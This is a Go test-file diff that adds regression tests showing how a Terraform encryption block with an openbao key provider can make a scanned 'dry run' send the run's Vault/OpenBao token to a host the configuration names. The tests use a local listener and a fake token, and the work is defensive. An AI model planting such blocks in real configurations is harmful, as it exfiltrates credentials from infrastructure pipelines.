@@ -2,10 +2,13 @@ package server
 
 import (
 	"fmt"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	osexec "os/exec"
 	"path/filepath"
 	"strings"
+	"sync"
 	"testing"
 )
 
@@ -330,5 +333,99 @@ template "secsrc" {
 				}
 			}
 		})
+	}
+}
+
+// baoListener records every request's method and X-Vault-Token.
+func baoListener(t *testing.T) (addr string, seen func() []string) {
+	var mu sync.Mutex
+	var got []string
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		got = append(got, r.Method+" "+r.URL.Path+" token="+r.Header.Get("X-Vault-Token"))
+		mu.Unlock()
+		w.WriteHeader(http.StatusInternalServerError)
+	}))
+	t.Cleanup(srv.Close)
+	return srv.URL, func() []string { mu.Lock(); defer mu.Unlock(); return append([]string{}, got...) }
+}
+
+func baoEncryption(addr string) string {
+	return fmt.Sprintf(`terraform {
+  encryption {
+    key_provider "openbao" "k" {
+      address  = %q
+      key_name = "k"
+    }
+    method "aes_gcm" "m" {
+      keys = key_provider.openbao.k
+    }
+    state {
+      method = method.aes_gcm.m
+    }
+  }
+}
+`, addr)
+}
+
+// Promise (issue 12 item 2, README "The configuration scan"): a plan that
+// sends a write request is held ("data http whose method is anything but
+// GET or HEAD"), as is an encryption block whose key provider acts.
+// Break: the built-in openbao key provider PUTs to the address the
+// configuration names (/v1/transit/datakey/plaintext/KEY) as soon as
+// OpenTofu builds it, at `tofu init`, carrying the run's BAO_TOKEN as
+// X-Vault-Token. The scan flags only key_provider "external"
+// (EncryptionReason in scan/blocks.go), so the exempted dry run sends the
+// run's Vault/OpenBao token in a write request to whatever host the
+// configuration names, no person asked.
+func TestAttack12bEncryptionOpenbaoSendsRunTokenUnheld(t *testing.T) {
+	addr, seen := baoListener(t)
+	h := scanHarness(t, `
+credential "bao" {
+  env = { BAO_TOKEN = "s.run-token-XYZZY" }
+}
+template "bao" {
+  project = "infra"
+  command = "infra/bao"
+  credentials = ["bao"]
+}
+`)
+	dir := filepath.Join(h.project, "infra/bao")
+	os.MkdirAll(dir, 0o755)
+	os.WriteFile(filepath.Join(dir, "main.tf"), []byte(baoEncryption(addr)+"\nresource \"terraform_data\" \"x\" {}\n"), 0o644)
+	v := h.launchWait("alice", "bao", "--dry-run")
+	if got := seen(); len(got) > 0 {
+		t.Fatalf("an exempted dry run sent %d requests with the run's token to the address its encryption block names (%s: %s; findings %+v): %v",
+			len(got), v.Status, v.Message, v.Findings, got)
+	}
+}
+
+// The same from a pull request: the branch adds the encryption block; its
+// plan is scanned, found clean, and `tofu init` in the private tree sends
+// the run's token to the branch's host.
+func TestAttack12bPullRequestOpenbaoSendsRunToken(t *testing.T) {
+	addr, seen := baoListener(t)
+	h := newHarness(t, `
+credential "bao" {
+  env = { BAO_TOKEN = "s.run-token-XYZZY" }
+}
+template "data" {
+  project = "infra"
+  command = "infra/data"
+  credentials = ["bao"]
+}
+`)
+	h.git("init", "-q", "-b", "main")
+	h.git("add", "-A")
+	h.git("commit", "-q", "-m", "main")
+	h.git("checkout", "-q", "-b", "bao")
+	os.WriteFile(filepath.Join(h.project, "infra/data/encryption.tf"), []byte(baoEncryption(addr)), 0o644)
+	h.git("add", "-A")
+	h.git("commit", "-q", "-m", "bao")
+	h.git("checkout", "-q", "main")
+	v := h.launchWait("alice", "data", "--dry-run", "--ref", "bao")
+	if got := seen(); len(got) > 0 {
+		t.Fatalf("a pull request's plan sent the run's token in %d requests to the branch's host (%s: %s; steps %v): %v",
+			len(got), v.Status, v.Message, stepNames(v), got)
 	}
 }
